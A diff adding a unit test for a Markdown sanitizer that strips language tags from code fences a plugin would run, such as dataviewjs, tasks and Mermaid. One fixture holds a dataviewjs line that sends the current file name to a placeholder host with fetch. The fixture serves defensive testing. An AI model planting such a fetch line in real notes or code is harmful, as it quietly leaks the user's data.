@@ -15,6 +15,15 @@ describe('neutralizeRemote', () => {
     expect(rewrite(text)).toBe(text);
   });
 
+  it('should keep the code of a fence a plugin would run as text, and the language of one that only colours text', () => {
+    const run = '```dataviewjs\nawait fetch("https://host.example/?d=" + dv.current().file.name)\n```\n';
+    expect(rewrite(run)).toBe('```\nawait fetch("https://host.example/?d=" + dv.current().file.name)\n```\n');
+    expect(rewrite('~~~ Mermaid {x}\ngraph TD\n~~~\n')).toBe('~~~\ngraph TD\n~~~\n');
+    expect(rewrite('- ```tasks\n  not done\n  ```\n')).toBe('- ```\n  not done\n  ```\n');
+    const coloured = '```TypeScript\nconst a = 1;\n```\n```\nplain\n```\n';
+    expect(rewrite(coloured)).toBe(coloured);
+  });
+
   it('should leave a fenced code block as written', () => {
     const text = '```html\n<img src="https://host.example/a.png">\n```\n';
     expect(rewrite(text)).toBe(text);
